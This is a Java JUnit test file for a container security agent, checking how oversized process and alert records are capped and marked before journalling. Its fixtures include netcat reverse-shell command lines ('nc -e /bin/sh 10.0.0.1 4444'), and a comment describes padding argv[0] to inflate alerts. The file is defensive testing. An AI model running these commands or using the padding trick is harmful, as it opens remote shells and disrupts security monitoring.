package dev.dockward.agent.journal;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotSame;
import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.core.type.TypeReference;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.dockward.agent.detect.AncestryEnricher;
import dev.dockward.agent.detect.RuleDetector;
import dev.dockward.agent.pipeline.Detector;
import dev.dockward.agent.schema.RecordSchema;
import dev.dockward.event.ContainerInfo;
import dev.dockward.event.EventDocuments;
import dev.dockward.event.HostInfo;
import dev.dockward.event.ProcessInfo;
import dev.dockward.event.ProcessObserved;
import dev.dockward.proc.ProcText;
import dev.dockward.proc.ProcessLineage;
import dev.dockward.proc.RecentProcesses;
import dev.dockward.rules.RuleEngine;
import dev.dockward.rules.RuleFiles;
import dev.dockward.rules.RuleLoader;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalInt;
import java.util.OptionalLong;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class RecordBoundsTest {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final TypeReference<Map<String, Object>> MAP = new TypeReference<>() {};
  private static final String ID =
      "7a1c0c1d2e4b5a6978877665544332211009f2c0c1d2e4b5a697887766554433";
  private static final HostInfo HOST = new HostInfo("web-07", "3d1219c7c4c5404aaa1f6d2a48adfda4");
  private static final Instant T = Instant.parse("2026-11-22T18:02:11.431Z");

  /**
   * {@code exec -a "$(head -c 65000 /dev/zero | tr '\0' '\1')" nc -e /bin/sh …}: argv[0] is 65,000
   * bytes of 0x01.
   */
  private static final String CONTROL_ARGV0 = "\u0001".repeat(65_000);

  @TempDir Path dir;

  private final long[] seq = {1};

  private String nextId() {
    return String.format("3d1219c7c4c5-%016x", seq[0]++);
  }

  private static ContainerInfo container(Map<String, String> labels) {
    return new ContainerInfo(
        ID,
        "web",
        "nginx:1.25",
        "sha256:abc",
        labels,
        false,
        List.of(),
        List.of(),
        List.of(),
        new dev.dockward.event.NamespaceModes("", "default", "private", "", "", "private"),
        List.of(),
        new dev.dockward.event.ResourceLimits(
            OptionalLong.empty(),
            OptionalLong.empty(),
            OptionalLong.empty(),
            OptionalLong.empty(),
            OptionalLong.empty()),
        OptionalLong.of(4200),
        Map.of(),
        Optional.of(T),
        List.of());
  }

  private static ProcessInfo netcat(String cmdline) {
    return new ProcessInfo(
        4242,
        4200,
        123456L,
        "nc",
        "/usr/bin/nc.openbsd",
        cmdline,
        false,
        OptionalInt.of(0),
        OptionalInt.of(0),
        OptionalLong.of(0xa80425fbL),
        Map.of("mnt", 4026532254L),
        "/docker/" + ID);
  }

  /**
   * The exec event and the alerts the bundled rules raise on it, as the pipeline hands them to the
   * journal.
   */
  private List<Map<String, Object>> eventAndAlerts(String cmdline, Map<String, String> labels) {
    Detector detector =
        new AncestryEnricher(
            new RuleDetector(new RuleEngine(RuleLoader.load(RuleFiles.bundled()).ruleSet())),
            new RecentProcesses(10),
            ProcessLineage.NONE);
    Map<String, Object> event =
        EventDocuments.of(
            new ProcessObserved(T, "netlink", netcat(cmdline), Optional.of(container(labels))),
            HOST,
            nextId());
    List<Map<String, Object>> records = new ArrayList<>();
    records.add(event);
    records.addAll(detector.alertsFor(event, this::nextId));
    return records;
  }

  private static int encodedSize(Map<String, Object> record) {
    RecordJsonEncoder encoder = new RecordJsonEncoder();
    assertTrue(encoder.encode(record));
    return encoder.size();
  }

  /** Journals the records through the writer and reads them back as written. */
  private List<String> journal(List<Map<String, Object>> records) {
    try (ChronicleJournal j = ChronicleJournal.openForWriting(dir, "hourly")) {
      JournalWriter w = new JournalWriter(j, JSON);
      records.forEach(w::append);
    }
    List<String> read = new ArrayList<>();
    try (ChronicleJournal j = ChronicleJournal.openForReading(dir);
        JournalCursor c = j.fromStart()) {
      Optional<JournalRecord> r;
      while ((r = c.next()).isPresent()) {
        read.add(r.get().json());
      }
    }
    return read;
  }

  private static Map<String, Object> parse(String json) throws Exception {
    return JSON.readValue(json, MAP);
  }

  @SuppressWarnings("unchecked")
  private static Map<String, Long> marks(Map<String, Object> record) {
    Map<String, Long> out = new LinkedHashMap<>();
    for (Object o : (List<Object>) record.getOrDefault("truncated", List.of())) {
      Map<String, Object> m = (Map<String, Object>) o;
      out.put(
          (Boolean.TRUE.equals(m.get("key")) ? "key:" : "") + m.get("path"),
          ((Number) m.get("length")).longValue());
    }
    return out;
  }

  @SuppressWarnings("unchecked")
  private static Object at(Map<String, Object> record, String... path) {
    Object v = record;
    for (String p : path) {
      v = v instanceof List<?> l ? l.get(Integer.parseInt(p)) : ((Map<String, Object>) v).get(p);
    }
    return v;
  }

  @Test
  void theIssuesNetcatAlertIsCutToItsCapsAndMarked() throws Exception {
    String cmdline = CONTROL_ARGV0 + " -e /bin/sh 10.0.0.1 4444";
    List<Map<String, Object>> records = eventAndAlerts(cmdline, Map.of("app", "web"));
    Map<String, Object> alert =
        records.stream()
            .filter(r -> "netcat_program_exec_in_container".equals(r.get("rule")))
            .findFirst()
            .orElseThrow(() -> new AssertionError("the bundled rule fires: " + records));
    int before = encodedSize(alert);
    assertTrue(
        before > 1_048_576,
        "the alert as built is over Kafka's default max.request.size: " + before);

    List<String> journalled = journal(records);
    assertEquals(records.size(), journalled.size());
    int alertIndex = records.indexOf(alert);
    String written = journalled.get(alertIndex);
    int after = written.getBytes(java.nio.charset.StandardCharsets.UTF_8).length;
    System.out.printf(
        "RecordBoundsTest: netcat alert %d bytes as built, %d journalled; its event %d -> %d%n",
        before, after, encodedSize(records.get(0)), journalled.get(0).length());
    assertTrue(after <= RecordBounds.MAX_RECORD_BYTES, "journalled alert: " + after);

    Map<String, Object> read = parse(written);
    Map<String, Long> marks = marks(read);
    assertEquals((long) cmdline.length(), marks.get("/process/cmdline"), marks.toString());
    assertEquals((long) cmdline.length(), marks.get("/evidence/cmdline"), marks.toString());
    assertTrue(marks.get("/summary") > cmdline.length(), marks.toString());
    assertEquals(RecordBounds.STRING_CAP, ((String) at(read, "process", "cmdline")).length());
    assertEquals(RecordBounds.SUMMARY_CAP, ((String) read.get("summary")).length());
    assertTrue(
        ((String) alert.get("summary")).startsWith((String) read.get("summary")),
        "a prefix of the summary");
    // What was not too long is whole: the rule, the container, the event id.
    assertEquals(alert.get("rule"), read.get("rule"));
    assertEquals(alert.get("event_id"), read.get("event_id"));
    assertEquals(ID, at(read, "container", "id"));

    // The event keeps 64 Ki characters of command line, but 6 bytes each is over the record limit:
    // the guard cuts it.
    Map<String, Object> event = parse(journalled.get(0));
    assertTrue(journalled.get(0).length() <= RecordBounds.MAX_RECORD_BYTES);
    String kept = (String) at(event, "process", "cmdline");
    assertTrue(
        cmdline.startsWith(kept) && kept.length() > 30_000 && kept.length() < cmdline.length(),
        "a prefix as long as fits: " + kept.length());
    assertEquals(Map.of("/process/cmdline", (long) cmdline.length()), marks(event));
    new RecordSchema().assertAllValid(journalled);
  }

  @Test
  void aCommandLineOfInvalidUtf8IsCappedInTheEventAndTheAlert() throws Exception {
    byte[] argv = new byte[64 * 1024];
    Arrays.fill(argv, (byte) 0xff);
    // As the /proc reader decodes it: each byte that is not UTF-8 becomes a 4-character \xNN
    // escape.
    String cmdline = ProcText.cmdline(argv, argv.length) + " -e /bin/sh";
    assertTrue(cmdline.length() > 4 * 64 * 1024, "decoded: " + cmdline.length());
    List<Map<String, Object>> records = eventAndAlerts(cmdline, Map.of());
    List<String> journalled = journal(records);
    for (String line : journalled) {
      Map<String, Object> read = parse(line);
      assertTrue(
          line.length() <= RecordBounds.MAX_RECORD_BYTES, read.get("kind") + ": " + line.length());
      int cap =
          "alert".equals(read.get("kind"))
              ? RecordBounds.STRING_CAP
              : RecordBounds.EVENT_CMDLINE_CAP;
      assertEquals(
          cap, ((String) at(read, "process", "cmdline")).length(), read.get("kind").toString());
      assertEquals((long) cmdline.length(), marks(read).get("/process/cmdline"));
    }
    assertTrue(records.size() > 1, "an alert was raised");
    new RecordSchema().assertAllValid(journalled);
  }

  @Test
  void aLabelOfOneMegabyteAndALabelKeyOfOneMegabyteAreCut() throws Exception {
    String big = "L".repeat(1 << 20);
    Map<String, String> labels = new LinkedHashMap<>();
    labels.put("app", "web");
    labels.put("note", big);
    labels.put(big, "v");
    List<Map<String, Object>> records = eventAndAlerts("nc -e /bin/sh 10.0.0.1 4444", labels);
    assertTrue(encodedSize(records.get(0)) > 2 << 20);
    List<String> journalled = journal(records);
    for (String line : journalled) {
      assertTrue(line.length() <= RecordBounds.MAX_RECORD_BYTES, line.length() + " bytes");
      Map<String, Object> read = parse(line);
      @SuppressWarnings("unchecked")
      Map<String, Object> written = (Map<String, Object>) at(read, "container", "labels");
      assertEquals("web", written.get("app"));
      assertEquals(big.substring(0, RecordBounds.STRING_CAP), written.get("note"));
      String cutKey = big.substring(0, RecordBounds.KEY_CAP);
      assertEquals("v", written.get(cutKey));
      assertEquals(
          Map.of(
              "/container/labels/note",
              (long) big.length(),
              "key:/container/labels/" + cutKey,
              (long) big.length()),
          marks(read));
    }
    assertTrue(journalled.size() > 1, "an alert was raised");
    new RecordSchema().assertAllValid(journalled);
  }

  @Test
  void evidenceNestedTenThousandDeepIsCutAtTheDepthCap() throws Exception {
    Object nested = "bottom";
    for (int i = 0; i < 10_000; i++) {
      nested = List.of(nested);
    }
    Map<String, Object> evidence = new LinkedHashMap<>();
    evidence.put("tree", nested);
    Map<String, Object> alert = alert(evidence);
    Map<String, Object> read = parse(journal(List.of(alert)).get(0));
    Map<String, Long> marks = marks(read);
    assertEquals(1, marks.size(), marks.toString());
    String path = marks.keySet().iterator().next();
    // evidence is at depth 1, tree at 2: the list at depth 17 is written empty (it held one entry).
    assertEquals("/evidence/tree" + "/0".repeat(RecordBounds.DEPTH_CAP - 1), path);
    assertEquals(1L, marks.get(path));
    Object v = at(read, "evidence", "tree");
    for (int depth = 2; depth <= RecordBounds.DEPTH_CAP; depth++) {
      v = ((List<?>) v).get(0);
    }
    assertEquals(List.of(), v);
  }

  @Test
  void manySmallValuesOverTheRecordLimitLoseEntriesMarkedWithTheirCount() throws Exception {
    List<Object> values = new ArrayList<>();
    for (int i = 0; i < 20_000; i++) {
      values.add(String.format("%05d-", i) + "z".repeat(94));
    }
    Map<String, Object> evidence = new LinkedHashMap<>();
    evidence.put("files", values);
    Map<String, Object> alert = alert(evidence);
    int before = encodedSize(alert);
    String line = journal(List.of(alert)).get(0);
    assertTrue(
        before > 2_000_000 && line.length() <= RecordBounds.MAX_RECORD_BYTES,
        before + " -> " + line.length());
    Map<String, Object> read = parse(line);
    Map<String, Long> marks = marks(read);
    // First the entry cap, then the guard halved the list (the first mark keeps the original
    // count).
    assertEquals(20_000L, marks.get("/evidence/files"), marks.toString());
    List<?> kept = (List<?>) at(read, "evidence", "files");
    assertTrue(kept.size() < RecordBounds.ENTRIES_CAP && !kept.isEmpty(), "kept " + kept.size());
    assertTrue(kept.get(0).toString().startsWith("00000-"), "the first entries stay, in order");
    new RecordSchema().assertAllValid(List.of(line));
  }

  @Test
  void aRecordWithinItsBoundsIsJournalledAsItIsWithoutACopy() {
    Map<String, Object> alert = alert(Map.of("cmdline", "x".repeat(RecordBounds.STRING_CAP)));
    assertSame(alert, RecordBounds.capFields(alert));
    Map<String, Object> over = alert(Map.of("cmdline", "x".repeat(RecordBounds.STRING_CAP + 1)));
    Map<String, Object> capped = RecordBounds.capFields(over);
    assertNotSame(over, capped);
    assertEquals(
        RecordBounds.STRING_CAP + 1,
        ((String) at(over, "evidence", "cmdline")).length(),
        "the caller's map is unchanged");
    assertFalse(over.containsKey("truncated"));
  }

  @Test
  void cuttingAJournalledRecordFurtherKeepsItsOriginalLengths() throws Exception {
    String cmdline = CONTROL_ARGV0 + " -e /bin/sh 10.0.0.1 4444";
    List<Map<String, Object>> records = eventAndAlerts(cmdline, Map.of());
    Map<String, Object> journalled = parse(journal(records).get(1));
    RecordJsonEncoder encoder = new RecordJsonEncoder();
    Map<String, Object> smaller =
        RecordBounds.shrink(
            journalled,
            8192,
            r -> {
              assertTrue(encoder.encode(r));
              return encoder.size();
            });
    assertTrue(encodedSize(smaller) <= 8192, "size " + encodedSize(smaller));
    Map<String, Long> marks = marks(smaller);
    assertEquals((long) cmdline.length(), marks.get("/process/cmdline"), marks.toString());
    assertEquals((long) cmdline.length(), marks.get("/evidence/cmdline"), marks.toString());
    assertEquals(journalled.get("id"), smaller.get("id"));
    new RecordSchema().assertAllValid(List.of(JSON.writeValueAsString(smaller)));
  }

  @Test
  void jsonPointersEscapeTildeAndSlash() {
    assertEquals("a~1b~0c", RecordBounds.token("a/b~c"));
    assertEquals("plain", RecordBounds.token("plain"));
  }

  @Test
  void prefixesKeepSurrogatePairsWhole() {
    String s = "ab\ud83d\udc33cd";
    assertEquals(
        "ab",
        RecordBounds.prefix(s, 7),
        "the pair takes 12 bytes escaped: it goes whole or not at all");
    assertEquals("ab\ud83d\udc33", RecordBounds.prefix(s, 14));
    assertEquals(RecordBounds.encodedLength("\u0001\"\u00e9\u20ac"), 6 + 2 + 2 + 3);
  }

  private Map<String, Object> alert(Map<String, Object> evidence) {
    Map<String, Object> alert = new LinkedHashMap<>();
    alert.put("schema", 1L);
    alert.put("kind", "alert");
    alert.put("id", nextId());
    alert.put("time", "2026-11-22T18:02:11.431Z");
    alert.put("host", EventDocuments.host(HOST));
    alert.put("rule", "it_rule");
    alert.put("severity", "high");
    alert.put("tags", List.of("container"));
    alert.put("summary", "evidence " + evidence.keySet().stream().collect(Collectors.joining(",")));
    alert.put("evidence", evidence);
    alert.put("event_id", nextId());
    return alert;
  }
}
